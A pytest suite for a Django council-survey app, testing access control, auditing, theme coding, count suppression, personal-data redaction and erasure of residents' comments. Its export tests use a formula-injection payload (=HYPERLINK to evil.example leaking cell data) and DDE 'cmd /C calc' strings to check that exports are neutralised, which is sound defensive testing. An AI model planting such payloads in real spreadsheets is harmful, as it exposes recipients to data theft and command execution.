"""Residents' comments: read by research officers only (and audited), coded against a coding
frame with several themes each, counted under the disclosure policy, redacted before they
are quoted or exported, formula-neutralised in every file, and erased with their response."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import PermissionDenied
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from officers import redaction
from officers.comments import (
    comment_code,
    comment_quote,
    comment_redact,
    comments_for_survey,
    theme_counts,
    theme_counts_by_group,
    theme_save,
    theme_suggestions,
)
from officers.errors import OfficerError
from officers.models import CommentCoding, Export, FindingsPage, Theme
from officers.services import export_build, export_create
from surveys.erasure import response_erase
from surveys.models import Answer, AuditEntry, Membership, Response
from surveys.services import response_record
from tests.officers.test_disclosure import _sent
from tests.surveys.conftest import answers_for

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _user(name: str, survey, role: str | None):
    user = get_user_model().objects.create_user(name, password="not-a-real-password-9")
    if role:
        Membership.objects.create(user=user, council=survey.council, role=role)
    return user


@pytest.fixture
def research(survey):
    return _user("researcher", survey, Membership.Role.RESEARCH_OFFICER)


@pytest.fixture
def research_client(client, research):
    client.force_login(research)
    return client


def _answer(survey, text: str, **answers) -> Answer:
    arm = "A"
    response = response_record(
        survey=survey,
        answers={**answers_for(arm), "COMMENTS": text, **answers},
        mode=Response.Mode.ONLINE,
        split_arm=arm,
    )
    return Answer.objects.get(response=response, question__code="COMMENTS")


@pytest.fixture
def commented(survey):
    """Thirty comments: 20 from women, 10 from men."""
    for i in range(30):
        _answer(
            survey,
            f"Comment {i}: the library should open later.",
            SEX="female" if i < 20 else "male",
        )
    return survey


def _urls(survey, comment_pk: int, theme_pk: int) -> list[str]:
    slug = survey.slug
    return [
        reverse("officers:comments", args=[slug]),
        reverse("officers:comment", args=[slug, comment_pk]),
        reverse("officers:comment_themes", args=[slug]),
        reverse("officers:comment_theme", args=[slug, theme_pk]),
        reverse("officers:comment_counts", args=[slug]),
        reverse("officers:comments_export", args=[slug]),
    ]


# ---------------------------------------------------------------------------------------------
# Who reads them, and the audit trail


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (Membership.Role.RESEARCH_OFFICER, 200),
        (Membership.Role.OFFICER, 403),
        (Membership.Role.COUNCIL_ADMIN, 403),
        (None, 404),
    ],
)
def test_only_research_officers_open_the_comments_pages(client, survey, role, status):
    comment = _answer(survey, "Buses are late.")
    theme = Theme.objects.create(survey=survey, name="Transport")
    client.force_login(_user("someone", survey, role))

    for url in _urls(survey, comment.pk, theme.pk):
        assert client.get(url).status_code == status, url
    assert client.post(_urls(survey, comment.pk, theme.pk)[2], {"name": "New"}).status_code in (
        status,
        302,
    )
    if status != 200:
        assert not Theme.objects.filter(name="New").exists()


def test_another_councils_research_officer_sees_none_of_them(client, survey, other_survey):
    comment = _answer(survey, "Buses are late.")
    theme = Theme.objects.create(survey=survey, name="Transport")
    outsider = _user("outsider", other_survey, Membership.Role.RESEARCH_OFFICER)
    client.force_login(outsider)

    for url in _urls(survey, comment.pk, theme.pk):
        assert client.get(url).status_code == 404, url
    # Nor through their own survey's address.
    theirs = reverse("officers:comment", args=[other_survey.slug, comment.pk])
    assert client.get(theirs).status_code == 404


def test_reading_the_list_and_a_comment_is_audited(research_client, research, survey):
    comment = _answer(survey, "Buses are late.")

    listing = research_client.get(reverse("officers:comments", args=[survey.slug]))
    page = research_client.get(reverse("officers:comment", args=[survey.slug, comment.pk]))

    assert "Buses are late." in listing.content.decode()
    assert "Buses are late." in page.content.decode()
    reads = AuditEntry.objects.filter(action="comments.read", actor=research).order_by("pk")
    assert [(e.detail["page"], e.detail["comments"]) for e in reads] == [
        ("list", [comment.pk]),
        ("comment", [comment.pk]),
    ]
    assert all(e.survey_id == survey.pk for e in reads)


def test_a_voided_responses_comment_is_not_listed(research_client, survey):
    comment = _answer(survey, "Buses are late.")
    Response.objects.filter(pk=comment.response_id).update(status=Response.Status.VOIDED)

    assert not comments_for_survey(survey=survey).exists()
    page = research_client.get(reverse("officers:comment", args=[survey.slug, comment.pk]))
    assert page.status_code == 404


def test_the_survey_menu_offers_comments_to_research_officers_only(client, survey):
    url = reverse("officers:dashboard", args=[survey.slug])
    link = reverse("officers:comments", args=[survey.slug])
    client.force_login(_user("plain", survey, Membership.Role.OFFICER))
    assert link not in client.get(url).content.decode()
    client.force_login(_user("research2", survey, Membership.Role.RESEARCH_OFFICER))
    assert link in client.get(url).content.decode()


# ---------------------------------------------------------------------------------------------
# Coding


def test_a_comment_is_coded_with_several_themes(research_client, research, survey):
    comment = _answer(survey, "The library and the buses both need work.")
    slug = survey.slug
    for name in ("Libraries", "Transport", "Parks"):
        research_client.post(reverse("officers:comment_themes", args=[slug]), {"name": name})
    themes = {t.name: t.pk for t in Theme.objects.filter(survey=survey)}
    assert set(themes) == {"Libraries", "Transport", "Parks"}

    saved = research_client.post(
        reverse("officers:comment", args=[slug, comment.pk]),
        {"action": "themes", "theme": [themes["Libraries"], themes["Transport"]]},
    )

    assert saved.status_code == 302
    coding = CommentCoding.objects.get(answer=comment)
    assert {t.name for t in coding.themes.all()} == {"Libraries", "Transport"}
    assert coding.coded_by == research and coding.redaction == CommentCoding.Redaction.PENDING
    entry = AuditEntry.objects.get(action="comment.coded")
    assert entry.detail == {
        "comment": comment.pk,
        "themes": sorted([themes["Libraries"], themes["Transport"]]),
    }
    listed = research_client.get(
        reverse("officers:comments", args=[slug]), {"theme": themes["Transport"]}
    )
    assert f'data-comment="{comment.pk}"' in listed.content.decode()
    uncoded = research_client.get(reverse("officers:comments", args=[slug]), {"status": "uncoded"})
    assert f'data-comment="{comment.pk}"' not in uncoded.content.decode()


def test_another_surveys_theme_cannot_be_given(research, survey, other_survey):
    comment = _answer(survey, "Buses.")
    theirs = Theme.objects.create(survey=other_survey, name="Theirs")
    with pytest.raises(OfficerError):
        comment_code(comment=comment, user=research, theme_ids=[theirs.pk])
    assert not CommentCoding.objects.exists()


def test_the_coding_frame_is_edited_and_a_theme_deleted(research_client, research, survey):
    comment = _answer(survey, "Buses.")
    theme = theme_save(survey=survey, user=research, name="Transport")
    comment_code(comment=comment, user=research, theme_ids=[theme.pk])
    url = reverse("officers:comment_theme", args=[survey.slug, theme.pk])

    research_client.post(url, {"action": "save", "name": "Buses and trains", "keywords": "bus"})
    theme.refresh_from_db()
    assert (theme.name, theme.keywords) == ("Buses and trains", "bus")
    twice = research_client.post(
        reverse("officers:comment_themes", args=[survey.slug]), {"name": "buses and TRAINS"}
    )
    assert twice.status_code == 400 and "already has a theme" in twice.content.decode()

    research_client.post(url, {"action": "delete"})
    assert not Theme.objects.exists()
    assert CommentCoding.objects.get(answer=comment).themes.count() == 0
    assert AuditEntry.objects.filter(action="comment_theme.deleted", detail__comments=1).exists()


def test_suggestions_come_from_the_frame_and_are_not_applied(research_client, research, survey):
    comment = _answer(survey, "The libraries close too early.")
    libraries = theme_save(survey=survey, user=research, name="Library opening", keywords="books")
    parks = theme_save(survey=survey, user=research, name="Parks", keywords="grass, playground")

    assert theme_suggestions(comment.text_value, [libraries, parks]) == {libraries.pk: "libraries"}
    page = research_client.get(reverse("officers:comment", args=[survey.slug, comment.pk]))
    assert f'data-suggested="{libraries.pk}"' in page.content.decode()
    assert f'data-suggested="{parks.pk}"' not in page.content.decode()
    # A suggestion is only a hint: nothing is coded until the officer ticks it.
    assert not CommentCoding.objects.exists()


# ---------------------------------------------------------------------------------------------
# Theme counts, with the report's suppression


def test_theme_counts_overall_hide_small_counts(research, commented):
    comments = list(comments_for_survey(survey=commented).order_by("pk"))
    common = theme_save(survey=commented, user=research, name="Opening hours")
    rare = theme_save(survey=commented, user=research, name="Staff")
    unused = theme_save(survey=commented, user=research, name="Parking")
    for i, c in enumerate(comments[:12]):
        comment_code(comment=c, user=research, theme_ids=[common.pk] + ([rare.pk] if i < 3 else []))

    counts = theme_counts(survey=commented)

    assert counts.coded == 12 and counts.shown
    by_name = {row.theme.name: row.text for row in counts.rows}
    assert by_name == {"Opening hours": "12", "Staff": "fewer than 10", "Parking": "fewer than 10"}
    del unused


def test_theme_counts_show_nothing_with_too_few_coded_comments(research, commented):
    theme = theme_save(survey=commented, user=research, name="Opening hours")
    for c in list(comments_for_survey(survey=commented))[:9]:
        comment_code(comment=c, user=research, theme_ids=[theme.pk])

    counts = theme_counts(survey=commented)

    assert counts.coded_text == "fewer than 10"
    assert [row.count for row in counts.rows] == [None]


def test_theme_counts_by_group_suppress_small_groups_and_cells(
    research_client, research, commented
):
    comments = list(comments_for_survey(survey=commented).order_by("pk"))  # 20 women, 10 men
    hours = theme_save(survey=commented, user=research, name="Opening hours")
    staff = theme_save(survey=commented, user=research, name="Staff")
    for i, c in enumerate(comments):
        themes = [hours.pk] + ([staff.pk] if i < 15 or i >= 27 else [])
        comment_code(comment=c, user=research, theme_ids=themes)
    # Women: 20 coded, hours 20, staff 15; men: 10 coded, hours 10, staff 3.

    table = theme_counts_by_group(survey=commented, question_code="SEX")

    sizes = {col.code: col.text for col in table.columns}
    assert sizes["female"] == "20" and sizes["male"] == "10"
    cells = {
        theme.name: dict(zip([c.code for c in table.columns], row, strict=True))
        for theme, row in table.rows
    }
    assert cells["Opening hours"]["female"] == "20" and cells["Opening hours"]["male"] == "10"
    # Staff among men is 3: hidden, and the women's 15 with it (the row's total of 18 is
    # shown, so showing 15 would give the men's count back).
    assert cells["Staff"]["male"] == "fewer than 10"
    assert cells["Staff"]["female"] == "fewer than 10"
    page = research_client.get(
        reverse("officers:comment_counts", args=[commented.slug]), {"group": "SEX"}
    )
    assert page.status_code == 200 and 'id="by-group"' in page.content.decode()


# ---------------------------------------------------------------------------------------------
# The redaction step


@pytest.mark.parametrize(
    ("text", "kind", "found"),
    [
        (
            "Write to me at jo.bloggs+council@example.co.uk please",
            "email",
            "jo.bloggs+council@example.co.uk",
        ),
        ("Ring me on 07700 900123 after six", "phone", "07700 900123"),
        ("My number is +44 (0)161 496 0000.", "phone", "+44 (0)161 496 0000"),
        ("Call (0161) 496 0000", "phone", "(0161) 496 0000"),
        ("We are in RV1 1AA, near the park", "postcode", "RV1 1AA"),
        ("postcode sw1a2aa", "postcode", "sw1a2aa"),
        ("I live at 12 Acacia Avenue.", "address", "12 Acacia Avenue"),
        ("the potholes at 4 mill lane", "address", "4 mill lane"),
        ("The lift in flat 3 is broken", "address", "flat 3"),
        ("The bins on Station Road are never emptied", "address", "Station Road"),
        ("My name is Ada Lovelace and I care", "name", "Ada Lovelace"),
        ("I'm Priyanka, a carer", "name", "Priyanka"),
        ("Mrs Okafor at the library was so kind", "name", "Mrs Okafor"),
        ("Thank you to Sarah for her help", "name", "Sarah"),
    ],
)
def test_redaction_finds_each_kind_of_personal_data_and_masks_it(text, kind, found):
    spans = redaction.personal_data_find(text)

    assert [(s.kind, s.text) for s in spans] == [(kind, found)]
    masked = redaction.mask(text, spans)
    assert found not in masked and redaction.MASKS[kind] in masked


def test_redaction_leaves_an_ordinary_comment_alone():
    text = (
        "It took 3 calls on our road to get the potholes fixed. I am worried the library "
        "closes at 5pm, and buses every 15 minutes would help. In 2014 it was better."
    )
    assert redaction.personal_data_find(text) == []


def test_redaction_masks_several_at_once():
    text = "I'm Sarah, at 12 Acacia Avenue RV1 1AA, sarah@example.org or 07700 900123."
    masked = redaction.mask(text, redaction.personal_data_find(text))
    assert masked == "I'm [name], at [address] [postcode], [email] or [phone]."


def test_the_officer_masks_or_keeps_each_flag_and_masks_more(research_client, research, survey):
    comment = _answer(
        survey, "Dr Jones on Station Road told me to e-mail jo@example.org. Ask Bert."
    )
    url = reverse("officers:comment", args=[survey.slug, comment.pk])
    flags = redaction.personal_data_find(comment.text_value)
    assert [f.kind for f in flags] == ["name", "address", "email"]

    # Keep the street (everyone knows it), mask the rest, and the name the checks missed.
    saved = research_client.post(
        url,
        {
            "action": "redact",
            "flag_0": "mask",
            "flag_1": "keep",
            "flag_2": "mask",
            "phrases": "Bert\n",
        },
    )

    assert saved.status_code == 302
    coding = CommentCoding.objects.get(answer=comment)
    assert coding.redaction == CommentCoding.Redaction.MASKED and coding.redacted_by == research
    assert (
        coding.redacted_text == "[name] on Station Road told me to e-mail [email]. Ask [removed]."
    )
    entry = AuditEntry.objects.get(action="comment.redacted")
    assert entry.detail["masked"] == {"name": 1, "email": 1, "other": 1}
    assert entry.detail["flags_kept"] == 1
    # The original is untouched: the officer still reads what the resident wrote.
    comment.refresh_from_db()
    assert "jo@example.org" in comment.text_value


def test_a_phrase_not_in_the_comment_is_refused(research_client, survey):
    comment = _answer(survey, "Buses are late.")
    refused = research_client.post(
        reverse("officers:comment", args=[survey.slug, comment.pk]),
        {"action": "redact", "phrases": "Trains"},
    )
    assert refused.status_code == 400 and "is not in the comment" in refused.content.decode()
    assert not CommentCoding.objects.filter(redaction="masked").exists()


def test_a_clean_comment_is_confirmed(research, survey):
    comment = _answer(survey, "Buses are late.")
    coding = comment_redact(comment=comment, user=research, kept=set(), phrases=[])
    assert coding.redaction == CommentCoding.Redaction.CLEAN
    assert coding.redacted_text == "Buses are late."


# ---------------------------------------------------------------------------------------------
# Quoting and exporting: redacted comments only


def test_an_unredacted_comment_is_neither_quoted_nor_exported(
    client, research, survey, django_capture_on_commit_callbacks
):
    waiting = _answer(survey, "Please call me, Sarah, on 07700 900123.")
    done = _answer(survey, "Ring Sarah on 07700 900123 about the bins.")
    comment_redact(comment=done, user=research, kept=set(), phrases=[])

    with pytest.raises(OfficerError):
        comment_quote(comment=waiting, user=research, quoted=True)
    comment_quote(comment=done, user=research, quoted=True)
    with django_capture_on_commit_callbacks(execute=True):
        export = export_create(
            survey=survey, user=research, kind=Export.Kind.COMMENTS_CSV, weighted=False
        )
    export.refresh_from_db()
    text = Path(export.file.path).read_text("utf-8-sig")

    assert "Ring [name] on [phone] about the bins." in text
    assert "07700" not in text and "Sarah" not in text
    assert "1 comments still waiting for the redaction step" in text
    # The public page quotes the redacted text only.
    FindingsPage.objects.create(
        survey=survey, published_at=timezone.now(), figures_taken_at=timezone.now()
    )
    page = client.get(reverse("findings", args=[survey.slug])).content.decode()
    assert "Ring [name] on [phone] about the bins." in page
    assert "07700" not in page


def test_the_database_refuses_a_quoted_comment_still_to_be_redacted(survey):
    from django.db import IntegrityError, transaction

    comment = _answer(survey, "Buses.")
    with pytest.raises(IntegrityError), transaction.atomic():
        CommentCoding.objects.create(answer=comment, survey=survey, quoted=True)


def test_a_plain_officer_cannot_export_or_open_comment_exports(client, research, survey):
    officer = _user("plain", survey, Membership.Role.OFFICER)
    with pytest.raises(PermissionDenied):
        export_create(survey=survey, user=officer, kind=Export.Kind.COMMENTS_CSV, weighted=False)
    made = Export.objects.create(survey=survey, created_by=research, kind=Export.Kind.COMMENTS_CSV)
    client.force_login(officer)
    assert client.get(reverse("officers:export", args=[survey.slug, made.pk])).status_code == 404
    exports = client.get(reverse("officers:exports", args=[survey.slug])).content.decode()
    assert 'value="ccsv"' not in exports and f"/exports/{made.pk}/" not in exports


def _injected(survey, research):
    survey.title = PAYLOAD
    survey.save(update_fields=["title"])
    survey.council.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    survey.council.save(update_fields=["name"])
    comment = _answer(survey, PAYLOAD)
    theme = theme_save(
        survey=survey, user=research, name=PAYLOAD, description="+1+cmd|' /C calc'!A0"
    )
    second = theme_save(survey=survey, user=research, name="-2+3")
    comment_code(comment=comment, user=research, theme_ids=[theme.pk, second.pk])
    comment_redact(comment=comment, user=research, kept=set(), phrases=[])
    return comment


def _cells_safe(cells) -> None:
    cells = [c for c in cells if isinstance(c, str) and c]
    assert cells
    for cell in cells:
        assert cell[0] not in "=+-@\t\r", cell
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_an_injection_payload_in_every_label_is_neutralised_in_csv(research, survey):
    _injected(survey, research)
    export = Export.objects.create(
        survey=survey, created_by=research, kind=Export.Kind.COMMENTS_CSV
    )

    built = export_build(export_id=export.pk)

    assert built.status == Export.Status.READY, built.message
    rows = list(csv.reader(io.StringIO(Path(built.file.path).read_text("utf-8-sig"))))
    _cells_safe([cell for row in rows for cell in row])
    assert rows[1][2] == "'" + PAYLOAD and rows[1][3].startswith("'" + PAYLOAD)


def test_an_injection_payload_in_every_label_is_neutralised_in_excel(research, survey):
    _injected(survey, research)
    export = Export.objects.create(
        survey=survey, created_by=research, kind=Export.Kind.COMMENTS_XLSX
    )

    built = export_build(export_id=export.pk)

    assert built.status == Export.Status.READY, built.message
    book = load_workbook(built.file.path)
    assert book.sheetnames == ["Comments", "Themes", "About"]
    cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    _cells_safe(cells)
    # openpyxl would have stored a formula for text starting "=": there is none.
    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)


# ---------------------------------------------------------------------------------------------
# Erasure


def test_erasure_removes_a_comments_coding_and_the_export_holding_it(
    research, seeded, django_capture_on_commit_callbacks
):
    response, code = _sent(seeded)
    comment = Answer.objects.get(response=response, question__code="COMMENTS")
    theme = theme_save(survey=seeded, user=research, name="Libraries")
    comment_code(comment=comment, user=research, theme_ids=[theme.pk])
    comment_redact(comment=comment, user=research, kept=set(), phrases=[])
    comment_quote(comment=comment, user=research, quoted=True)
    export = Export.objects.create(
        survey=seeded, created_by=research, kind=Export.Kind.COMMENTS_CSV
    )
    built = export_build(export_id=export.pk)
    assert built.responses.filter(pk=response.pk).exists()
    path = Path(built.file.path)
    assert "More evening opening hours at the library" in path.read_text("utf-8-sig")

    with django_capture_on_commit_callbacks(execute=True):
        response_erase(code=code)

    assert not CommentCoding.objects.filter(answer_id=comment.pk).exists()
    assert not Theme.codings.through.objects.exists()
    built.refresh_from_db()
    assert built.status == Export.Status.ERASED and not path.exists()
    assert Theme.objects.filter(pk=theme.pk).exists()  # the frame is the council's, not theirs


def test_opening_one_response_with_its_comment_is_audited(research_client, research, survey):
    comment = _answer(survey, "Buses are late.")
    public_id = comment.response.public_id

    page = research_client.get(reverse("officers:response_detail", args=[survey.slug, public_id]))

    assert "Buses are late." in page.content.decode()
    entry = AuditEntry.objects.get(action="response.read")
    assert entry.actor == research and entry.detail == {"response": str(public_id)}


def test_a_comment_links_to_the_next_one_waiting_for_redaction(research_client, research, survey):
    first = _answer(survey, "Buses are late.")
    second = _answer(survey, "Trains are late.")
    comment_redact(comment=second, user=research, kept=set(), phrases=[])

    page = research_client.get(reverse("officers:comment", args=[survey.slug, second.pk]))
    waiting_link = reverse("officers:comment", args=[survey.slug, first.pk])
    assert f'href="{waiting_link}" id="next-waiting"' in page.content.decode()

    comment_redact(comment=first, user=research, kept=set(), phrases=[])
    page = research_client.get(reverse("officers:comment", args=[survey.slug, second.pk]))
    assert 'id="next-waiting"' not in page.content.decode()
